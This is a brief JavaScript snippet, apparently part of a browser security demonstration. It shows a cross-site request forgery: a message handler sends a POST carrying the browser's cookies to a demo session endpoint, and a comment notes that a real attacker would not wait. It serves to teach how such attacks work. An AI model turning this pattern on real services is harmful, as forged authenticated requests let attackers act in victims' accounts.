// The attack: a request to the service, with the cookies that the browser has for
// it. It is sent when the demonstration's page asks for it; a real attacker would
// not wait.
addEventListener("message", async ({ origin, data, ports: [answer] }) => {
	await fetch(`${origin}/demo/session?demo=${encodeURIComponent(data)}`, { method: "POST", mode: "no-cors", credentials: "include" });
	answer.postMessage("sent");
});
